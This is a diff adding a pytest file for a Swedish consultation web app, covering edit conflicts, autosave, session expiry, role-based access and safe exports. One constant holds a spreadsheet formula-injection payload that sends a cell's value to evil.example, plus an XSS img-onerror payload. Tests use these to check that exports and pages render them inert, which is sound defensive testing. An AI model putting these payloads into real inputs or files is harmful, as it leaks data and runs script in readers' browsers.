@@ -1,0 +1,175 @@
+"""The remiss pages through the test client: access per role, conflicts, autosave, exports."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime, timedelta
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from consultation import responses
+from consultation.models import Comment, Response, ResponseStatus, Role
+from consultation.responses import CommentInput
+
+from ..factories import OrganisationFactory
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka") <img src=x onerror=alert(1)>'
+
+
+def submitted(db_session, user, round_, text, section=None):
+    owner = f"org-{user.organisations[0].id}" if user.organisations else "person"
+    response = responses.open_response(db_session, user, round_.id, owner, datetime.now(UTC))
+    responses.save_comments(db_session, user, response.id, [CommentInput(section, text)], datetime.now(UTC))
+    responses.submit_response(db_session, user, response.id, datetime.now(UTC))
+    db_session.commit()
+    return response
+
+
+def test_colleague_conflict_page_shows_both_texts_and_lets_me_choose(client, auth, db_session, open_round, stakeholder, colleague):
+    response = responses.open_response(db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC))
+    responses.save_comments(db_session, stakeholder, response.id, [CommentInput(None, "Start.")], datetime.now(UTC))
+    db_session.commit()
+    auth.login_as(stakeholder)
+    url = f"/svar/{response.id}"
+    page = client.get(url).get_data(as_text=True)
+    assert 'name="revision-whole" value="1"' in page
+    # Bo saves in between.
+    responses.save_comments(db_session, colleague, response.id, [CommentInput(None, "Bos text.", 1)], datetime.now(UTC))
+    db_session.commit()
+
+    conflict = auth.post(url, {"comment-whole": "Annas text.", "revision-whole": "1", "action": "save"})
+    assert conflict.status_code == 409
+    html = conflict.get_data(as_text=True)
+    assert "Bos text." in html and "Annas text." in html
+    assert 'name="revision-whole" value="2"' in html
+
+    keep_mine = auth.post(url, {"comment-whole": "Annas text.", "revision-whole": "2", "choice-whole": "mine", "action": "save"})
+    assert keep_mine.status_code == 302
+    db_session.expire_all()
+    assert db_session.scalar(select(Comment.body)) == "Annas text."
+
+
+def test_autosave_saves_and_reports_revisions(client, auth, db_session, open_round, stakeholder):
+    auth.login_as(stakeholder)
+    response = responses.open_response(db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC))
+    db_session.commit()
+    section = open_round.version.sections[1]
+    result = auth.post(f"/svar/{response.id}/autospara", {f"comment-{section.id}": "Autosparat."}, form_url=f"/svar/{response.id}")
+    assert result.status_code == 200
+    data = json.loads(result.get_data(as_text=True))
+    assert data["ok"] and data["revisions"] == {str(section.id): 1}
+    db_session.expire_all()
+    assert db_session.scalar(select(Comment.body)) == "Autosparat."
+
+
+def test_expired_login_keeps_the_text(client, db_session, open_round, stakeholder):
+    response = responses.open_response(db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC))
+    db_session.commit()
+    client.application.config["WTF_CSRF_ENABLED"] = False
+    try:
+        page = client.post(f"/svar/{response.id}", data={"comment-whole": "Två timmars arbete.", "action": "save"})
+    finally:
+        client.application.config["WTF_CSRF_ENABLED"] = True
+    assert page.status_code == 401
+    assert "Två timmars arbete." in page.get_data(as_text=True)
+
+
+def test_expired_form_token_keeps_the_text(client, auth, db_session, open_round, stakeholder):
+    response = responses.open_response(db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC))
+    db_session.commit()
+    auth.login_as(stakeholder)
+    page = client.post(f"/svar/{response.id}", data={"comment-whole": "Text <b>kvar</b>.", "csrf_token": "gammal"})
+    assert page.status_code == 400
+    html = page.get_data(as_text=True)
+    assert "Text &lt;b&gt;kvar&lt;/b&gt;." in html
+    assert db_session.scalar(select(Comment)) is None
+
+
+def _routes(round_, response):
+    return {
+        "round": ("GET", f"/remiss/{round_.id}"),
+        "edit": ("GET", f"/svar/{response.id}"),
+        "receipt": ("GET", f"/svar/{response.id}/kvitto"),
+        "version": ("GET", f"/svar/{response.id}/version/1"),
+        "wg-list": ("GET", f"/arbetsgrupp/rundor/{round_.id}/svar"),
+        "wg-response": ("GET", f"/arbetsgrupp/svar/{response.id}"),
+        "wg-sections": ("GET", f"/arbetsgrupp/rundor/{round_.id}/avsnitt"),
+        "wg-csv": ("GET", f"/arbetsgrupp/rundor/{round_.id}/synpunkter.csv"),
+        "wg-xlsx": ("GET", f"/arbetsgrupp/rundor/{round_.id}/synpunkter.xlsx"),
+        "admin-overview": ("GET", f"/admin/rundor/{round_.id}"),
+        "admin-import": ("GET", f"/admin/rundor/{round_.id}/remissinstanser"),
+        "admin-draft": ("GET", f"/admin/processer/{round_.process.code}/forslag/importera"),
+    }
+
+
+EXPECTED = {
+    # route: (anonymous, owner, other organisation, working group, admin, facilitator)
+    "round": (200, 200, 200, 200, 200, 200),
+    "edit": (302, 200, 404, 404, 404, 404),
+    "receipt": (302, 200, 404, 404, 404, 404),
+    "version": (302, 200, 404, 200, 200, 404),
+    "wg-list": (302, 403, 403, 200, 200, 403),
+    "wg-response": (302, 403, 403, 200, 200, 403),
+    "wg-sections": (302, 403, 403, 200, 200, 403),
+    "wg-csv": (302, 403, 403, 200, 200, 403),
+    "wg-xlsx": (302, 403, 403, 200, 200, 403),
+    "admin-overview": (302, 403, 403, 403, 200, 403),
+    "admin-import": (302, 403, 403, 403, 200, 403),
+    "admin-draft": (302, 403, 403, 403, 200, 403),
+}
+WHO = ["anonymous", "owner", "other", "working_group", "admin", "facilitator"]
+
+
+@pytest.mark.parametrize("route", sorted(EXPECTED))
+def test_access_per_role(client, auth, db_session, open_round, stakeholder, outsider, make_user, route):
+    response = submitted(db_session, stakeholder, open_round, "Synpunkt.")
+    people = {
+        "owner": stakeholder, "other": outsider,
+        "working_group": make_user(Role.WORKING_GROUP), "admin": make_user(Role.ADMIN),
+        "facilitator": make_user(Role.FACILITATOR),
+    }
+    db_session.commit()
+    method, url = _routes(open_round, response)[route]
+    for who, expected in zip(WHO, EXPECTED[route], strict=True):
+        if who != "anonymous":
+            auth.login_as(people[who])
+        got = client.open(url, method=method).status_code
+        assert got == expected, f"{route} as {who}: {got} != {expected}"
+        if who != "anonymous":
+            auth.logout()
+
+
+def test_withdraw_and_submit_by_another_organisation_change_nothing(client, auth, db_session, open_round, stakeholder, outsider):
+    response = submitted(db_session, stakeholder, open_round, "Vårt svar.")
+    auth.login_as(outsider)
+    token_page = "/"
+    assert auth.post(f"/svar/{response.id}/aterkalla", {}, form_url=token_page).status_code == 404
+    assert auth.post(f"/svar/{response.id}", {"comment-whole": "Kapat!", "action": "submit"}, form_url=token_page).status_code == 404
+    db_session.expire_all()
+    found = db_session.get(Response, response.id)
+    assert found.status == ResponseStatus.SUBMITTED and found.comments[0].body == "Vårt svar."
+
+
+def test_exports_keep_hostile_text_inert(client, auth, db_session, open_round, stakeholder, make_user):
+    submitted(db_session, stakeholder, open_round, HOSTILE, section=open_round.version.sections[0].id)
+    reader = make_user(Role.WORKING_GROUP)
+    db_session.commit()
+    auth.login_as(reader)
+
+    csv_bytes = client.get(f"/arbetsgrupp/rundor/{open_round.id}/synpunkter.csv").data
+    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:3] == ["Diarienummer", "Organisation", "Aktörstyp"]
+    cell = rows[1][6]
+    assert cell == "'" + HOSTILE  # a leading apostrophe: shown as text, never run
+
+    xlsx = openpyxl.load_workbook(io.BytesIO(client.get(f"/arbetsgrupp/rundor/{open_round.id}/synpunkter.xlsx").data))
+    sheet = xlsx.active
+    cell = sheet.cell(row=2, column=7)
+    assert cell.value == HOSTILE and cell.data_type == "s"
+
+    html = client.get(f"/arbetsgrupp/rundor/{open_round.id}/avsnitt/{open_round.version.sections[0].id}").get_data(as_text=True)
+    assert "<img src=x onerror" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
